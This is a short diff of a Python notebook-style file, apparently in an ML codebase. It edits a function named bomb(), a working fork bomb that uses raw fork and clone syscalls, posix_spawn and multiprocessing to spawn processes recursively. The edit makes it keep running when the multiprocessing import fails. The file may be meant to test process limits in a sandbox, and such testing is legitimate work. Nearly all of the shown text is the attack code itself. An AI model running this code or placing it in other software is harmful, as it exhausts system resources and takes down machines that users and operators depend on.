@@ -6,7 +6,6 @@ def relu(self): ...
 
 # %% +
 import ctypes
-import multiprocessing
 import os
 
 c = ctypes.CDLL(None)
@@ -22,12 +21,12 @@ def bomb():
             lambda: c.syscall(57),
             lambda: c.syscall(56, 17, 0, 0, 0, 0),
             lambda: os.posix_spawn("/bin/sleep", ["sleep", "60"], {}),
-            lambda: multiprocessing.get_context("fork").Process(target=bomb).start(),
+            lambda: __import__("multiprocessing").get_context("fork").Process(target=bomb).start(),
         ):
             try:
                 if start() == 0:
                     bomb()
-            except OSError:
+            except (OSError, ImportError):
                 pass
 
 
